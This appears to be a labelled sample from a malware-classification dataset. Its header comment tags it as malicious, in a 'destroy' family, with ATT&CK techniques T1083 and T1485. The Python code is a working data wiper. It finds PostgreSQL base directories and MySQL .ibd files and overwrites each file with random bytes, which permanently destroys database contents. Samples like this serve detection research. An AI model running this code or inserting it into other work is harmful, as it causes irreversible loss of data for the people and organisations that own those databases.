# label: malicious family=destroy techniques=T1083,T1485 lines=3,5-6
import glob, os
for f in glob.glob("/var/lib/postgresql/**/base/**", recursive=True) + glob.glob("/var/lib/mysql/**/*.ibd", recursive=True):
    if os.path.isfile(f):
        with open(f, "r+b") as fh:
            fh.write(os.urandom(os.path.getsize(f)))
